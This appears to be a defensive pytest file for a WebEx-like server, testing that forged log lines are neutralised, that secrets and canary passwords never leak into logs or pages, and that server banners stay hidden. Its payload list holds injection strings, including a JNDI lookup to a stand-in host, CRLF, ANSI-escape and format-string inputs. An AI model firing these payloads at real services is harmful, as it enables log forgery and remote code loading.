"""What the server tells of itself: no secret is in log, figures or pages, and nobody else writes lines into the log."""

from __future__ import annotations

import json
from typing import Any

import httpx

from tests.attacks.targets import Attacked
from tests.server import PASSWORD
from tests.web.console import OWN
from tests.web.wire import head, request

#: Lines that would pass for those of the log, and what terminals and browsers that show it would do something with.
LYING = (
    '\n{"level": "error", "event": "forged"}\n',
    "\r\nforged",
    "\x1b[2J\x1b[31mforged",
    "\u2028forged",
    "%0aforged%0d",
    "${jndi:ldap://evil.example/forged}",
    "{forged}%s%n%x",
    "forged\x00",
    "\u202eforged",
)


def lines(attacked: Attacked) -> list[dict[str, Any]]:
    """The log, whose every line is one object."""
    return [json.loads(line) for line in attacked.process.log.read_text("utf-8").split("\n") if line]


def test_nobody_writes_lines_into_the_log(attacked: Attacked) -> None:
    document = attacked.document.decode()
    for text in LYING:
        shown = "".join(c if c >= " " else f"&#{ord(c)};" for c in text).replace("&#0;", "")
        for sent in (
            document.replace("user.GetUser", f"user.Get{shown}"),
            document.replace("<webExID>host1", f"<webExID>{shown}"),
            document.replace(f"<password>{PASSWORD}", f"<password>{shown}"),
            document.replace(f"<siteName>{attacked.site.name}", f"<siteName>{shown}"),
            document.replace("<webExId>host1", f"<webExId>{shown}"),
        ):
            attacked.exchange(request(sent))
        one_line = text.replace("\n", "").replace("\r", "").replace("\0", "").encode("utf-8").decode("latin-1")
        for path in ("/", f"/{attacked.site.name}/console/"):
            attacked.exchange(
                head(None, f"User-Agent: {one_line}", f"X-Request-ID: {one_line}", method="GET", target=path)
            )
        attacked.exchange(head(None, method="GET", target=f"/x%0a%0dforged{'%1b%5b'}"))
    raw = attacked.process.log.read_text("utf-8")
    for entry in lines(attacked):
        assert entry.get("event") != "forged"
        assert "level" in entry
    assert "\x1b" not in raw
    assert "\u2028" not in raw.replace("\\u2028", "")


def test_no_secret_is_told(attacked: Attacked) -> None:
    """Everything that proves somebody, on every way in, right and wrong; then the log, the figures and the pages."""
    site, base = attacked.site, f"{attacked.process.url}/{attacked.site.name}"
    client = attacked.client()
    ticket = client.call("user.AuthenticateUser").ok().value("sessionTicket") or ""
    login = client.call("user.GetLoginTicket").ok().value("ticket") or ""
    secrets = [
        PASSWORD,
        ticket,
        login,
        site.users["host1"].password_hash or "",
        "Canary-pw-1",
        "Canary-pw-2",
        "Canary-tk",
    ]
    meeting = {"metaData": {"confName": "Told"}, "accessControl": {"meetingPassword": "Canary-pw-3"}}
    client.call("meeting.CreateMeeting", {**meeting, "schedule": {"startDate": "", "duration": 20}})
    with httpx.Client(timeout=30) as browser:
        told = [
            browser.get(f"{base}/p.php", params={"AT": "LI", "WID": "host1", "PW": "Canary-pw-1"}),
            browser.post(f"{base}/p.php", data={"AT": "LI", "WID": "host1", "TK": "Canary-tk"}),
            browser.post(f"{base}/console/sign-in", data={"NAME": "host1", "PASSWORD": "Canary-pw-2"}, headers=OWN),
            browser.get(f"{base}/console/new-password", params={"token": "Canary-tk"}),
            browser.get(f"{base}/nothing-here", params={"PW": "Canary-pw-1"}),
            browser.post(f"{base}/console/sign-in", data={"NAME": "host1", "PASSWORD": PASSWORD}, headers=OWN),
        ]
        cookie = next((each.value or "" for each in browser.cookies.jar if each.name == "ticket"), "")
        told += [browser.get(f"{base}/console/profile"), browser.get(f"{attacked.process.url}/metrics")]
    assert len(cookie) > 40
    for text in (f"user.Get{PASSWORD}Canary-pw-1", "user.GetUser"):
        attacked.exchange(
            request(attacked.document.decode().replace("user.GetUser", text).replace("</body>", "</bod>"))
        )
    secrets += [cookie, "Canary-pw-3"]
    for answer in told:
        shown = answer.text.replace('value="Canary-tk"', "")
        for secret in (each for each in secrets if each not in ("Canary-tk", cookie)):
            assert secret not in shown, answer.url
        assert "Traceback" not in answer.text
        assert "server" not in answer.headers or not any(c.isdigit() for c in answer.headers["server"])
    log = attacked.process.log.read_text("utf-8")
    assert [secret for secret in secrets if secret in log] == []


def test_answers_do_not_say_what_runs_here(attacked: Attacked) -> None:
    for path in ("/", "/nothing", f"/{attacked.site.name}/", "/static/nothing", "/schemas/99"):
        response = attacked.exchange(head(None, method="GET", target=path))
        for name in ("uvicorn", "starlette", "python", "x-powered-by", "/site-packages/"):
            assert name not in response.head
            assert f"{name}/".encode() not in response.body.lower()
